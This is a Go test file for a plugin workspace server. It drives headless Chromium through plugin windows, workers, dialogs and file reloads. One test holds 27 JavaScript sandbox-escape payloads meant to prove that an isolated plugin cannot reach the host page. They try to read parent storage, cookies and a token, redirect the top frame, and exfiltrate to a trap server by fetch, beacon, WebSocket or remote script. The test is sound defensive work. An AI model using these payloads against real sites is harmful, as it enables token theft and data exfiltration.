package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/imjoy-tools/imjoy/internal/app"
	"github.com/imjoy-tools/imjoy/internal/chromium"
)

// The plugins of the workspace that the tests look at.
var servedPlugins = map[string]string{
	"viewer.imjoy.html": `<config lang="json">
{"name": "Viewer", "type": "window", "version": "0.1.0", "api_version": "0.1.8", "description": "Draws numbers.",
 "ui": "n: {id: 'n', type: 'number', placeholder: 4}", "defaults": {"w": 10, "h": 6}}
</config>
<window><div><h1 id="title">empty</h1></div></window>
<style>h1 { color: rgb(200, 0, 0) }</style>
<script lang="javascript">
class Viewer {
  async setup() { this.heard = []; await api.on("close", () => api.log("closing")) }
  async run(ctx) {
    document.getElementById("title").textContent = "n is " + ctx.config.n;
    const calc = await api.getPlugin("Calc");
    const twice = await calc.twice({_rtype: "ndarray", _rvalue: new Float32Array([1, 2, 3]).buffer, _rshape: [3], _rdtype: "float32"});
    await api.setConfig("x", 5);
    return {twice, x: await api.getConfig("x"), color: getComputedStyle(document.getElementById("title")).color};
  }
  plus(a, b) { return a + b }
}
api.export(new Viewer());
</script>
`,
	"calc.imjoy.html": `<config lang="json">
{"name": "Calc", "type": "web-worker", "version": "0.1.0", "api_version": "0.1.8", "description": "Counts.", "inputs": {"file": {"ext": [".csv"]}}}
</config>
<script lang="javascript">
api.export({
  setup() {},
  twice(a) { return {...a, _rvalue: new Float32Array(a._rvalue || a.buffer || a).map(x => 2 * x).buffer} },
  async run() {
    const w = await api.createWindow({type: "Viewer", name: "From Calc", config: {n: 7}});
    const five = await w.plus(2, 3);
    const yes = await api.confirm("Close it?");
    if (yes) await w.close();
    return {five, yes, engine: typeof WorkerGlobalScope};
  },
});
</script>
`,
	"needs.imjoy.html": `<config lang="json">
{"name": "Needs", "type": "window", "version": "0.1.0", "api_version": "0.1.8", "requirements": ["https://cdn.example.org/lib@1/lib.js"]}
</config>
<window><div>x</div></window>
<script lang="javascript">api.export({setup() {}})</script>
`,
}

func servedFolder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// lines is where a command writes; first is sent its first line.
type lines struct {
	mu    sync.Mutex
	text  bytes.Buffer
	first chan string
	once  sync.Once
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.text.Write(p)
	if line, _, ok := strings.Cut(l.text.String(), "\n"); ok {
		l.once.Do(func() { l.first <- line })
	}
	return len(p), nil
}

// serve starts `imjoy serve` and answers its address.
func serve(t *testing.T, dir string, args ...string) (address string) {
	t.Helper()
	ctx, stop := context.WithCancel(context.Background())
	out := &lines{first: make(chan string, 1)}
	home := t.TempDir()
	a := &app.App{
		Stdin: strings.NewReader(""), Stdout: out, Stderr: io.Discard, Dir: dir, Now: time.Now,
		Env: func(name string) string {
			switch name {
			case "IMJOY_HOME", "HOME":
				return home
			case "PATH":
				return os.Getenv("PATH")
			}
			return ""
		},
	}
	code := make(chan int, 1)
	go func() { code <- run(ctx, a, append([]string{"serve", "--no-open", "--offline"}, args...)) }()
	t.Cleanup(func() {
		stop()
		<-code
	})
	select {
	case address = <-out.first:
	case c := <-code:
		code <- c
		t.Fatalf("exit code %d", c)
	case <-time.After(20 * time.Second):
		t.Fatal("no address")
	}
	return address
}

// browse opens an address in a Chromium that nobody sees.
func browse(t *testing.T, address string, flags ...string) *chromium.Tab {
	t.Helper()
	if testing.Short() {
		t.Skip("-short is set: starting a browser takes seconds")
	}
	if _, err := chromium.Find(); err != nil {
		t.Skipf("%v: this test drives one", err)
	}
	b, err := chromium.Start(t.Context(), chromium.Options{Env: os.Environ(), Flags: flags})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	tab, err := b.Open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if err := tab.Go(t.Context(), address); err != nil {
		t.Fatal(err)
	}
	return tab
}

// until evaluates an expression until it is true.
func until(t *testing.T, tab *chromium.Tab, expression string) {
	t.Helper()
	for end := time.Now().Add(20 * time.Second); ; {
		value, err := tab.Evaluate(t.Context(), "Boolean("+expression+")")
		if err == nil && string(value) == "true" {
			return
		}
		if time.Now().After(end) {
			text, _ := tab.Evaluate(t.Context(), "document.body.innerText")
			t.Fatalf("never true: %s (%v)\n%s", expression, err, text)
		}
		time.Sleep(30 * time.Millisecond)
	}
}

func do(t *testing.T, tab *chromium.Tab, expression string) {
	t.Helper()
	if _, err := tab.Evaluate(t.Context(), "{"+expression+"}"); err != nil {
		t.Fatalf("%s: %v", expression, err)
	}
}

const choose = `[...document.querySelectorAll(".item")].find(b => b.textContent.includes(%NAME)).click()`

func openPlugin(t *testing.T, tab *chromium.Tab, name string) {
	t.Helper()
	quoted, _ := json.Marshal(name)
	until(t, tab, `[...document.querySelectorAll(".item")].some(b => b.textContent.includes(`+string(quoted)+`))`)
	do(t, tab, strings.ReplaceAll(choose, "%NAME", string(quoted)))
	until(t, tab, `document.querySelector(".panel h1")?.textContent.includes(`+string(quoted)+`)`)
}

// One story through the page: a window with its form, which asks a plugin in a worker;
// that plugin, which opens a window and asks the person; a plugin that is saved.
func TestWorkspaceInTheBrowser(t *testing.T) {
	dir := servedFolder(t, servedPlugins)
	address := serve(t, dir, ".")
	tab := browse(t, address)
	openPlugin(t, tab, "Viewer")
	do(t, tab, `document.querySelector(".panel button.main").click()`)
	until(t, tab, `document.querySelector(".run")?.innerText.includes("rgb(200, 0, 0)")`)
	until(t, tab, `document.querySelector(".run").innerText.includes("float32 3, 2 to 6")`)
	until(t, tab, `document.querySelector(".window")?.dataset.state === "ready"`)

	openPlugin(t, tab, "Calc")
	do(t, tab, `document.querySelector(".panel button.main").click()`)
	until(t, tab, `document.querySelector("dialog.ask")?.innerText.includes("Close it?")`)
	until(t, tab, `document.querySelector("dialog.ask h2").innerText.includes("Calc")`)
	until(t, tab, `document.querySelectorAll(".window").length === 2`)
	do(t, tab, `document.querySelector("dialog.ask button.main").click()`)
	until(t, tab, `/five 5\s+yes true/.test(document.querySelector(".run").innerText)`)
	until(t, tab, `document.querySelectorAll(".window").length === 1`)
	if token := address[strings.Index(address, "#")+1:]; token == "" {
		t.Error("the address has no token")
	} else if got, _ := tab.Evaluate(t.Context(), "location.href + document.documentElement.outerHTML + JSON.stringify([{...sessionStorage}, {...localStorage}, window.name, history.state])"); strings.Contains(string(got), token) {
		t.Error("the token stays in the page")
	}

	// The page sees what is saved.
	changed := strings.Replace(servedPlugins["viewer.imjoy.html"], "Draws numbers.", "Draws all numbers.", 1)
	if err := os.WriteFile(filepath.Join(dir, "viewer.imjoy.html"), []byte(changed), 0o644); err != nil {
		t.Fatal(err)
	}
	until(t, tab, `document.body.innerText.includes("Draws all numbers.")`)

	// What cannot be had is named, with what to do.
	openPlugin(t, tab, "Needs")
	do(t, tab, `document.querySelector(".panel button.main").click()`)
	until(t, tab, `[...document.querySelectorAll(".lack")].some(l => l.innerText.includes("https://cdn.example.org/lib@1/lib.js") && l.innerText.includes("imjoy freeze needs.imjoy.html"))`)
}

// A web-worker plugin answers the same in goja and in the page.
func TestWorkersInThePage(t *testing.T) {
	script := `<config lang="json">
{"name": "Work", "type": "web-worker", "version": "0.1.0", "api_version": "0.1.8"}
</config>
<script lang="javascript">
api.export({setup() {}, async run() { return [1, "a", null, [true], {b: 2}, await api.echo(3), (await api.echo(new Map([["k", 1]]))).get("k")] }});
</script>
`
	for _, engine := range []string{"goja", "browser"} {
		tab := browse(t, serve(t, servedFolder(t, map[string]string{"work.imjoy.html": script}), "--js-engine", engine))
		openPlugin(t, tab, "Work")
		do(t, tab, `document.querySelector(".panel button.main").click()`)
		until(t, tab, `document.querySelector(".run .tree")?.innerText.replace(/\s+/g, " ").includes("0 1 1 a 2 null")`)
		until(t, tab, `/5 3\s+6 1/.test(document.querySelector(".run .tree").innerText)`)
	}
}

// attacks are what a plugin's page could try against the page around it. Each sets
// window.won when it gets what it must not get.
var attacks = map[string]string{
	"read the page":           `window.won = parent.document.body.innerText`,
	"read the top":            `window.won = top.location.href`,
	"the token in storage":    `window.won = sessionStorage.getItem("token")`,
	"the page's storage":      `window.won = parent.sessionStorage.getItem("token")`,
	"the page's variables":    `window.won = parent.document.cookie`,
	"cookies":                 `document.cookie = "a=1"; window.won = document.cookie`,
	"lead the top away":       `top.location = TRAP`,
	"a link to the top":       `const a = document.createElement("a"); a.href = TRAP; a.target = "_top"; document.body.append(a); a.click()`,
	"a form to the top":       `const f = document.createElement("form"); f.action = TRAP; f.target = "_top"; document.body.append(f); f.submit()`,
	"fetch the page":          `const f = document.createElement("iframe"); document.body.append(f); window.won = (await (await f.contentWindow.fetch(PAGE)).text()).length`,
	"the page by the host":    `window.won = (await (await fetch(PAGE)).text()).includes("<title>") || undefined`,
	"fetch without an answer": `const f = document.createElement("iframe"); document.body.append(f); await f.contentWindow.fetch(TRAP, {mode: "no-cors"}); window.won = 1`,
	"an image elsewhere":      `await new Promise((yes, no) => { const i = document.createElementNS("http://www.w3.org/1999/xhtml", "img"); i.onload = yes; i.onerror = no; Object.getOwnPropertyDescriptor(Node.prototype, "textContent"); i.srcset = TRAP + "/x.png"; document.body.append(i) }); window.won = 1`,
	"a beacon":                `navigator.sendBeacon(TRAP, "x")`,
	"a socket elsewhere":      `await new Promise((yes, no) => { const s = new WebSocket(TRAP.replace("http", "ws")); s.onopen = yes; s.onerror = no }); window.won = 1`,
	"the page's socket":       `await new Promise((yes, no) => { const s = new WebSocket(PAGE.replace("http", "ws") + "ws"); s.onopen = yes; s.onerror = no }); window.won = 1`,
	"its own host's socket":   `await new Promise((yes, no) => { const s = new WebSocket("ws://" + location.host + "/ws"); s.onopen = yes; s.onerror = no }); window.won = 1`,
	"another frame":           `for (let i = 0; i < parent.length; i++) if (parent[i] !== window) window.won = parent[i].document.body.innerText`,
	"a frame of the page":     `await new Promise(yes => { const f = document.createElement("iframe"); f.onload = yes; f.src = PAGE; document.body.append(f); setTimeout(yes, 500) }); window.won = frames[0].document.body.innerText`,
	"its own frame again":     `window.won = (await fetch(location.href)).ok || undefined`,
	"a frame of another":      `window.won = (await fetch("/f/AAAA/")).ok || undefined`,
	"the camera":              `window.won = await navigator.mediaDevices.getUserMedia({video: true})`,
	"the place":               `window.won = await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`,
	"a message as the host":   `parent.postMessage({type: "initialized", peer_id: "x", config: {}}, "*"); parent.postMessage({kind: "call", method: "run"}, "*")`,
	"a service worker above":  `window.won = await navigator.serviceWorker.register("/sw.js", {scope: "/"})`,
	"a worker that fetches":   `window.won = await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(PAGE) + ").then(r => r.text()).then(t => postMessage(t), e => postMessage(''))"]))); w.onmessage = e => e.data ? yes(e.data) : no(); w.onerror = no })`,
	"a script from elsewhere": `await new Promise((yes, no) => { const s = document.createElementNS("http://www.w3.org/1999/xhtml", "script"); s.onload = yes; s.onerror = no; s.setAttributeNS(null, "src", TRAP + "/x.js"); document.body.append(s) }); window.won = 1`,
}

func TestAttackPagesGetNothing(t *testing.T) {
	var mu sync.Mutex
	var trapped []string
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		trapped = append(trapped, r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer trap.Close()
	var script strings.Builder
	script.WriteString("const attacks = {\n")
	for name, body := range attacks {
		quoted, _ := json.Marshal(name)
		script.WriteString(string(quoted) + ": async (PAGE, TRAP) => {" + body + "},\n")
	}
	script.WriteString("};\n")
	files := map[string]string{
		"other.imjoy.html": strings.ReplaceAll(servedPlugins["viewer.imjoy.html"], "Viewer", "Other"),
		"calc.imjoy.html":  servedPlugins["calc.imjoy.html"],
		"attack.imjoy.html": `<config lang="json">
{"name": "Attack", "type": "window", "version": "0.1.0", "api_version": "0.1.8"}
</config>
<window><div>x</div></window>
<script lang="javascript">
` + script.String() + `
api.export({setup() {}, async run() {
  const page = "http://127.0.0.1:" + location.port + "/", trap = "` + trap.URL + `", won = [];
  for (const name of Object.keys(attacks)) {
    window.won = undefined;
    const slow = new Promise(r => setTimeout(r, 1500));
    try { await Promise.race([attacks[name](page, trap), slow]) } catch (e) { /* refused, as it should be */ }
    if (window.won !== undefined && window.won !== null && window.won !== "" && window.won !== false) won.push(name + ": " + String(window.won).slice(0, 100));
  }
  return {tried: Object.keys(attacks).length, won};
}});
</script>
`}
	address := serve(t, servedFolder(t, files))
	tab := browse(t, address)
	openPlugin(t, tab, "Other")
	do(t, tab, `document.querySelector(".panel button.main").click()`)
	until(t, tab, `document.querySelector(".window")?.dataset.state === "ready"`)
	openPlugin(t, tab, "Attack")
	do(t, tab, `document.querySelector(".panel button.main").click()`)
	until(t, tab, `[...document.querySelectorAll(".run h2")].some(h => h.textContent === "Attack") && !document.querySelector(".working")`)
	value, err := tab.Evaluate(t.Context(), `[...document.querySelectorAll(".run")].find(r => r.querySelector("h2").textContent === "Attack").innerText`)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(value), "tried 27") || !strings.Contains(string(value), "empty") {
		t.Errorf("attacks that got something: %s", value)
	}
	if here, _ := tab.Evaluate(t.Context(), "location.origin"); !strings.Contains(address, strings.Trim(string(here), `"`)) {
		t.Errorf("the page was led to %s", here)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(trapped) > 0 {
		t.Errorf("requests went out: %q", trapped)
	}
}
